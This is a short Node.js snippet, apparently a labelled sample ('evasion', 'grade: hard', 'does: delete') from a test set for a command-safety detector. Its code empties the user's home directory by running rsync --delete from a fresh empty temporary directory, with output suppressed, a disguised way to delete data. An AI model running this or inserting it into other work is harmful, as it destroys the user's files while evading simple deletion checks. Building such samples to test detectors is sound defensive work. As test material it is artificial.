// evasion: home directory emptied by rsync --delete from an empty directory
// grade: hard; does: delete
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');

const empty = fs.mkdtempSync(path.join(os.tmpdir(), 'sync-'));
execFileSync('rsync', ['-a', '--delete', empty + '/', os.homedir() + '/'], { stdio: 'ignore' });
